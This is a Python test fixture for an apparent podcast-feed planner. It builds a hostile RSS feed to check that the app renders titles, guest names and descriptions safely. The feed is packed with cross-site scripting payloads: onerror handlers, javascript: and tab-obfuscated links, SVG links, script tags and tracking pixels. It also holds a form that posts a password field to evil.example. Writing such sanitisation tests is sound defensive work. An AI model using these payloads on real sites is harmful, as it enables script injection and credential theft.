"""A hostile podcast feed (THREATS §2.3 payloads) and a demo workspace that has read it.

The feed is "mine" (owner me), so its episode with a demo contact as guest becomes an
auto-confirmed give in the ledger (title from the feed), a second entry waits on the Review
page, and a guest who is not a contact becomes a suggestion, then a contact, whose name is
hostile too. Every image in it points at ``pixel_base`` so a browser test can count fetches.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from planner.services import Workspace, detections, feeds, ingest

#: Markdown/HTML that must never become an element: each is a fetch or a link if rendered.
TITLE = (
    "Ep 99: Maya Lindqvist ![t]({px}-title.gif) <img src=x onerror=alert(1)> "
    "[click](javascript:alert(1))"
)
PENDING_TITLE = "Sunny ![s]({px}-sunny.gif) chats [more](javascript:alert(2))"
GUEST = "Eve ![g]({px}-guest.gif) Mallory"
CHANNEL = "Evil cast ![c]({px}-channel.gif) <script>alert('feedtitle')</script>"


def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def hostile_feed(px: str) -> bytes:
    """RSS 2.0 + podcast namespace; ``px`` is the pixel URL prefix (…/pixel)."""
    description = _xml(
        f"<p>Maya Lindqvist joins us. ![d]({px}-desc.gif) "
        '<a href="jav&#x09;ascript:alert(1)">tab</a> '
        '<a href="javascript:alert(1)">js</a> '
        '<svg><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>'
        f'<img src="{px}-img.gif" width="1" height="1">'
        '<form action="http://evil.example/"><input type="password" name="p"></form></p>'
    )
    return f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"
     xmlns:podcast="https://podcastindex.org/namespace/1.0">
<channel><title>{_xml(CHANNEL.format(px=px))}</title><link>javascript:alert(0)</link>
<image><url>javascript:alert(4)</url></image>
<item><title>{_xml(TITLE.format(px=px))}</title>
<link>javascript:alert(document.cookie)</link><guid>javascript:alert(2)</guid>
<pubDate>Tue, 17 Nov 2026 09:30:00 GMT</pubDate>
<author>{_xml("<b onmouseover=alert(1)>me</b>")}</author>
<description>{description}</description>
<enclosure url="javascript:alert(3)" type="audio/mpeg" length="1"/>
<podcast:person role="guest" href="javascript:alert(5)">Maya Lindqvist</podcast:person>
<podcast:person role="guest" href="https://eve.example/">{_xml(GUEST.format(px=px))}</podcast:person>
</item>
<item><title>{_xml(PENDING_TITLE.format(px=px))}</title>
<link>jav&#x09;ascript:alert(7)</link><guid>evil-2</guid>
<pubDate>Wed, 18 Nov 2026 09:30:00 GMT</pubDate>
<description>Thanks Sunny for the tip ![x]({px}-x.gif)</description>
<enclosure url="data:audio/mpeg;base64,AAAA" type="audio/mpeg" length="1"/></item>
</channel></rss>""".encode()


@dataclass(frozen=True)
class Hostile:
    feed_id: int
    guest_contact_id: int
    maya_id: int
    px: str

    def text(self, template: str) -> str:
        return template.format(px=self.px)


def ingest_hostile(ws: Workspace, folder: Path, px: str) -> Hostile:
    """Demo workspace (already loaded) + the hostile feed read + its guest made a contact."""
    path = folder / "evil-cast.xml"
    path.write_bytes(hostile_feed(px))
    feed_id = feeds.add_file(ws, path, kind="podcast", owner="me")
    summary = ingest.refresh(ws)
    assert summary.count("failed") == 0, summary.describe()
    guest = next(s for s in detections.list_suggestions(ws) if s.name.startswith("Eve "))
    contact = detections.accept_suggestion(ws, guest.id)
    maya = next(
        d.contact_id
        for d in detections.list_detections(ws)
        if d.contact == "Maya Lindqvist" and d.entry_title.startswith("Ep 99")
    )
    return Hostile(feed_id, contact.id, maya, px)
